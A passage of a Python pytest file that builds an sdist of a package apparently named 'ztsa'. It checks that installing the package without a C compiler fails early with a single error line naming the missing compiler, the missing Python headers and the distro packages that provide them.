    _installed_tool_runs(no_compiler, built, link, home, env, user=True)


@pytest.fixture(scope="session")
def sdist(tmp_path_factory) -> Path:
    """An sdist of this checkout, as `python -m build --sdist` makes one."""
    if importlib.util.find_spec("build") is None:
        pytest.skip("`build` is not installed")
    root = tmp_path_factory.mktemp("sdist-build")
    src = root / "source-tree"
    shutil.copytree(REPO, src, ignore=shutil.ignore_patterns(
        ".git", "build", "dist", "*.so", "*.egg-info", "__pycache__", ".*_cache",
        ".hypothesis", ".venv"))
    proc = _run([sys.executable, "-m", "build", "--sdist", "--outdir", root / "dist", src],
                cwd=root, timeout=BUILD_TIMEOUT)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    return next((root / "dist").glob("ztsa-*.tar.gz"))


def test_an_sdist_install_without_a_compiler_names_the_packages(sdist, no_compiler, tmp_path):
    """`pip install SDIST` where no compiler runs and no Python.h exists fails before
    anything compiles, with one line that says what is missing and names the packages
    that provide it; nothing is installed."""
    target = tmp_path / "target"
    env = {k: v for k, v in os.environ.items() if k not in ("CC", "VIRTUAL_ENV")}
    proc = no_compiler.run([sys.executable, "-m", "pip", "install", "--no-deps",
                            "--target", target, sdist], env)
    out = proc.stdout + proc.stderr
    assert proc.returncode != 0, out[-3000:]
    lines = [line.strip() for line in out.splitlines()
             if "ztsa: building the native helper needs" in line]
    assert len(lines) == 1, out[-3000:]
    assert "[1 lines of output]" in out, out[-3000:]  # pip's frame of the backend's output
    assert lines[0].startswith("ztsa: building the native helper needs a C compiler and "
                               "the Python headers (no C compiler: "), lines
    assert "; no Python.h in " in lines[0]
    for packages in ("apt-get install gcc python3-dev", "dnf install gcc python3-devel",
                     "apk add build-base python3-dev"):
        assert packages in lines[0]
    # it stopped before the compiler: no compiler's error, nothing installed
    assert "Python.h: No such file" not in out and "error: command" not in out, out[-3000:]
    assert not list(target.glob("ztsa*"))
